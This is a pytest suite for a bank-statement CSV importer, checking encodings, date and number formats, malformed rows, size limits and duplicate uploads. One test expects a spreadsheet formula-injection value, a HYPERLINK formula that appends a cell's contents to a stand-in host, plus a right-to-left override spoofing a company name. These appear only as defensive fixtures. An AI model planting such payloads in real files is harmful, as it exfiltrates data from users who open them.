"""Files as receivers send them, from upload to lines: what each comes to, and what is said of what is wrong."""

from __future__ import annotations

import hashlib
from datetime import date
from typing import Any

import pytest

from access.tenancy import reading
from statements import keeping
from statements.actions.settling import HasErrors
from statements.actions.uploading import FileTooLarge, FileUnusable, KnownFile
from statements.models import Format, StatementState
from tests.statements.shelf import PAYEE, Shelf, content_of, terms

pytestmark = pytest.mark.django_db(transaction=True)

DOTTED = {"dates": "DD.MM.YYYY"}


@pytest.mark.parametrize(
    ("name", "mapping", "amounts"),
    [
        pytest.param("01_bom_semicolon.csv", {}, [-2000], id="a-byte-order-mark"),
        pytest.param("02_decimal_comma_thousands.csv", DOTTED, [100_000, 135_590, -471_198], id="thousands"),
        pytest.param(
            "03_decimal_point_one_digit.csv", {"delimiter": ",", "numbers": "1,234.50"}, [-11_070, 123_456], id="point"
        ),
        pytest.param("10_preamble_footer.csv", {**DOTTED, "left_out": ["Total"]}, [-2000, -3000], id="text-around"),
    ],
)  # fmt: skip
def test_a_file_comes_to_exactly_its_lines(
    shelf: Shelf, name: str, mapping: dict[str, Any], amounts: list[int]
) -> None:
    statement_id = shelf.read(content_of(name), terms(**mapping))
    assert shelf.errors(statement_id) == []
    assert shelf.signed(statement_id) == amounts
    statement = shelf.statement(statement_id)
    assert (statement.state, statement.lines, statement.errors) == (StatementState.READ, len(amounts), 0)
    assert shelf.apply(statement_id) == len(amounts)


@pytest.mark.parametrize(
    ("content", "encoding", "why"),
    [
        pytest.param(content_of("08_cp1252.csv"), "", "Not UTF-8: a byte in line 2 does not fit", id="cp1252"),
        pytest.param(content_of("08_cp1252.csv").decode("cp1252").encode(), "utf-8", "every byte fits", id="utf-8"),
        pytest.param(content_of("08_cp1252.csv").decode("cp1252").encode("utf-16"), "utf-16-le", "mark", id="utf-16"),
        pytest.param(content_of("08_cp1252.csv").decode("cp1252").encode("utf-16-le"), "utf-16-le", "nought", id="utf-16-le"),
        pytest.param(content_of("08_cp1252.csv").decode("cp1252").encode("utf-16-be"), "utf-16-be", "nought", id="utf-16-be"),
    ],
)  # fmt: skip
def test_the_same_name_is_read_out_of_every_encoding_and_the_bytes_are_kept(
    shelf: Shelf, content: bytes, encoding: str, why: str
) -> None:
    statement_id = shelf.read(content, terms(columns=PAYEE))
    statement = shelf.statement(statement_id)
    assert [line.counterparty for line in shelf.lines(statement_id)] == ["Müller & Söhne"]
    assert (statement.encoding, statement.digest) == (encoding, hashlib.sha256(content).hexdigest())
    assert why in statement.evidence
    assert b"".join(keeping.content_of(statement)) == content


def test_a_file_that_ends_in_the_middle_of_a_character_is_said_to_be_cut(shelf: Shelf) -> None:
    statement_id = shelf.read("Date;Amount;Reference\n2026-08-03;-5,00;Mü".encode()[:-1])
    assert shelf.problems(statement_id).startswith("2: The file ends in the middle of a character")
    assert "a part of the file is missing" in shelf.statement(statement_id).evidence


def test_two_encodings_in_one_file_are_errors_of_their_rows_and_nobodys_name_is_spoilt(shelf: Shelf) -> None:
    rows = ["2026-08-03;-5,00;Müller\n".encode("cp1252"), "2026-08-04;-6,00;Söhne\n".encode()]
    statement_id = shelf.read(b"Date;Amount;Reference\n" + b"".join(rows))
    assert [line.reference for line in shelf.lines(statement_id)] == ["Müller"]
    assert shelf.problems(statement_id).startswith("3: These letters are UTF-8 in a file that is not")


def test_every_wrong_row_is_told_at_once_and_nothing_is_applied(shelf: Shelf) -> None:
    statement_id = shelf.read(content_of("19_bad_row_in_the_middle.csv"))
    assert shelf.problems(statement_id) == "4: “2026-13-05” is no day of the calendar, read as YYYY-MM-DD."
    with pytest.raises(HasErrors, match="1 row is wrong, so nothing is applied"):
        shelf.apply(statement_id)
    assert shelf.statement(statement_id).state == StatementState.READ
    mended = shelf.upload(
        content_of("19_bad_row_in_the_middle.csv").replace(b"13-05", b"08-05"), account="0011"
    )
    shelf.begin(mended)
    shelf.work(mended)
    assert shelf.apply(mended) == 5


@pytest.mark.parametrize(
    ("form", "wrong"), [("MM/DD/YYYY", {3, 4}), ("DD/MM/YYYY", {4})], ids=["month-first", "day-first"]
)
def test_a_day_that_the_format_does_not_have_fails_the_file_whatever_else_it_could_be(
    shelf: Shelf, form: str, wrong: set[int]
) -> None:
    statement_id = shelf.read(content_of("07_day_month.csv"), terms(dates=form, numbers="1234.50"))
    assert {row for row, _ in shelf.errors(statement_id)} == wrong


def test_digits_that_a_spreadsheet_has_lost_are_refused_with_what_to_do(shelf: Shelf) -> None:
    columns = {"booked_on": "Date", "amount": "Amount", "reference": "Reference", "account": "Account"}
    statement_id = shelf.read(content_of("12_spreadsheet_damage.csv"), terms(columns=columns))
    assert shelf.errors(statement_id) == [(2, "Reference"), (2, "Account"), (3, "Reference")]
    told = shelf.problems(statement_id)
    assert "looks edited in a spreadsheet, which has lost its digits" in told
    assert "Leading noughts are lost" in told
    kept = shelf.read(b"Date;Amount;Reference\n2026-08-03;1,00;021000021\n", account="other")
    assert [line.reference for line in shelf.lines(kept)] == ["021000021"]


def test_texts_stay_what_they_are_whatever_they_would_do_elsewhere(shelf: Shelf) -> None:
    formulas = shelf.read(content_of("16_formulas.csv"), terms(columns=PAYEE))
    names = [line.counterparty for line in shelf.lines(formulas)]
    assert names == ['=HYPERLINK("http://x.test/?"&A1)', "+1+1", "@SUM(1)", "=1+1"]
    hostile = shelf.read(content_of("18_hostile_text.csv"), terms(columns=PAYEE), account="other")
    assert shelf.lines(hostile)[1].counterparty == "ACME \u202eDTL"
    assert len({line.fingerprint for line in shelf.lines(hostile)}) == 4


def test_a_nul_is_an_error_of_its_row_that_the_database_can_hold(shelf: Shelf) -> None:
    statement_id = shelf.read(content_of("17_nul.csv"), terms(columns=PAYEE))
    assert shelf.problems(statement_id).startswith("2: The row has a NUL in it")


def test_a_row_with_another_number_of_columns_is_an_error_with_its_line(shelf: Shelf) -> None:
    rows = b"2026-08-03;1,00;one\n2026-08-04;2,00\n2026-08-05;3,00;a;b\n2026-08-06;4,00;four\n"
    statement_id = shelf.read(b"Date;Amount;Reference\n" + rows)
    assert shelf.signed(statement_id) == [100, 400]
    assert "3: The row has 2 columns where the header has 3" in shelf.problems(statement_id)
    assert "4: The row has 4 columns where the header has 3" in shelf.problems(statement_id)


def test_a_file_of_tabs_one_of_a_single_column_and_one_of_a_single_line_are_read_as_they_are_said_to_be(
    shelf: Shelf,
) -> None:
    """J2: commas within a text separate nothing where tabs do, and what has no such column is not guessed."""
    tabs = shelf.read(b"Date\tAmount\tReference\n2026-08-03\t-1,00\ta, b; c\n", terms(delimiter="\t"))
    assert [(n.amount, n.reference) for n in shelf.lines(tabs)] == [(100, "a, b; c")]
    assert shelf.errors(tabs) == []
    alone = shelf.read(b"Date\n2026-08-03\n", account="a single column")
    assert "“Amount”, “Reference” is missing" in shelf.problems(alone)
    assert shelf.lines(alone) == []
    places = terms(header=False, columns={"booked_on": "1", "amount": "2"})
    line = shelf.read(b"2026-08-03;-1,00", places, account="a single line")
    assert (shelf.signed(line), shelf.errors(line)) == ([-100], [])


def test_a_total_that_the_mapping_does_not_know_is_an_error_and_no_line(shelf: Shelf) -> None:
    statement_id = shelf.read(content_of("10_preamble_footer.csv"), terms(**DOTTED))
    assert shelf.errors(statement_id) == [(8, "Date")]


def test_a_file_without_a_header_is_read_by_place_and_its_first_row_counts(shelf: Shelf) -> None:
    places = {"booked_on": "1", "amount": "2", "reference": "3"}
    rows = b"2026-08-03;-1,00;A1\n2026-08-04;-2,00;A2\n2026-08-05;-3,00;A3\n"
    statement_id = shelf.read(rows, terms(header=False, columns=places))
    assert shelf.signed(statement_id) == [-100, -200, -300]


def test_a_name_that_the_header_has_twice_is_mapped_by_place(shelf: Shelf) -> None:
    statement_id = shelf.read(b"Date;Amount;Amount;Reference\n2026-08-03;-1,00;99,00;A1\n")
    assert "“Amount” more than once" in shelf.problems(statement_id)
    places = {"booked_on": "1", "amount": "2", "reference": "4"}
    shelf.begin(statement_id, terms(header=False, columns=places, left_out=["Date"]))
    shelf.work(statement_id)
    assert (shelf.signed(statement_id), shelf.errors(statement_id)) == ([-100], [])


def test_a_header_that_is_not_there_is_said_with_what_is_missing(shelf: Shelf) -> None:
    statement_id = shelf.read(b"Datum;Amount;Reference\n2026-08-03;1,00;A\n")
    assert "“Date” is missing" in shelf.problems(statement_id)
    assert shelf.statement(statement_id).state == StatementState.READ


def test_line_ends_inside_quotes_belong_to_the_cell_and_rows_keep_their_numbers(shelf: Shelf) -> None:
    content = b'Date;Amount;Reference\r\n2026-08-03;1,00;"two\r\nlines"\r\n\r\n2026-08-04;x;A2\r\n'
    statement_id = shelf.read(content)
    assert [line.reference for line in shelf.lines(statement_id)] == ["two lines"]
    assert shelf.errors(statement_id) == [(5, "Amount")]


def test_a_quote_that_never_ends_costs_its_own_row_and_no_other(shelf: Shelf) -> None:
    many = b"".join(b"2026-08-%02d;1,00;R%d %s\n" % (1 + n % 28, n, b"x" * 200) for n in range(600))
    statement_id = shelf.read(b'Date;Amount;Reference\n2026-08-03;1,00;"open\n' + many)
    assert shelf.problems(statement_id).startswith(
        "2: The row does not end within 100,000 bytes or 200 lines."
    )
    assert (shelf.statement(statement_id).errors, shelf.statement(statement_id).lines) == (1, 600)


def test_a_line_of_ten_megabytes_is_one_error_and_the_rows_around_it_are_read(shelf: Shelf) -> None:
    head, tail = b"Date;Amount;Reference\n2026-08-03;1,00;A\n", b"\n2026-08-04;2,00;B\n"
    statement_id = shelf.read(head + b"x" * 10_000_000 + tail)
    assert [row for row, _ in shelf.errors(statement_id)] == [3]
    assert [(line.row_number, line.amount) for line in shelf.lines(statement_id)] == [(2, 100), (4, 200)]


def test_two_columns_of_amounts_and_words_for_in_and_out(shelf: Shelf) -> None:
    columns = {"booked_on": "Date", "paid_in": "In", "paid_out": "Out", "currency": "Currency"}
    content = b"Date;In;Out;Currency\n2026-08-03;;5,00;EUR\n2026-08-04;7;0;JPY\n2026-08-05;1,00;1,00;EUR\n2026-08-06;;;EUR\n"
    statement_id = shelf.read(content, terms(columns=columns, currency=""))
    assert shelf.signed(statement_id) == [-500, 7]
    assert shelf.errors(statement_id) == [(4, "Out"), (5, "In")]
    assert shelf.statement(statement_id).currency == ""
    words = {
        "columns": {"booked_on": "Date", "amount": "Amount", "direction": "S/H"},
        "in_words": ["H"],
        "out_words": ["S"],
    }
    content = (
        b"Date;Amount;S/H\n2026-08-03;5,00;S\n2026-08-04;7,00;h\n2026-08-05;1,00;?\n2026-08-06;-1,00;S\n"
    )
    statement_id = shelf.read(content, terms(**words), account="other")
    assert shelf.signed(statement_id) == [-500, 700]
    assert shelf.errors(statement_id) == [(4, "S/H"), (5, "Amount")]


def test_the_same_file_is_refused_with_who_brought_it_and_only_for_its_account(shelf: Shelf) -> None:
    first = shelf.upload(content_of("01_bom_semicolon.csv"))
    with pytest.raises(KnownFile, match=rf"{shelf.operator.username} has uploaded .* STMT-{first}, uploaded"):
        shelf.upload(content_of("01_bom_semicolon.csv"), name="other.csv")
    assert shelf.upload(content_of("01_bom_semicolon.csv"), account="0011") != first


def test_what_is_no_file_to_read_is_refused_before_anything_is_kept(shelf: Shelf, settings: Any) -> None:
    with pytest.raises(FileUnusable, match="empty"):
        shelf.upload(b"")
    settings.COUNTERFOIL_LARGEST_STATEMENT = 10
    with pytest.raises(FileTooLarge, match="larger than 10 bytes"):
        shelf.upload(b"x" * 11)


def test_totals_days_and_rows_are_told(shelf: Shelf) -> None:
    content = b"Date;Amount;Reference\n2026-08-03;10,00;A\n2026-08-01;-2,50;B\n2026-08-05;-0,50;C\n"
    statement = shelf.statement(shelf.read(content))
    assert (statement.currency, statement.amount_in, statement.amount_out) == ("EUR", 1000, 300)
    assert (statement.first_booked_on, statement.last_booked_on) == (date(2026, 8, 1), date(2026, 8, 5))
    assert (statement.format, statement.rows, statement.left_out) == (Format.CSV, 4, 1)
    with reading(shelf.tenant.pk):
        assert statement.position == statement.size
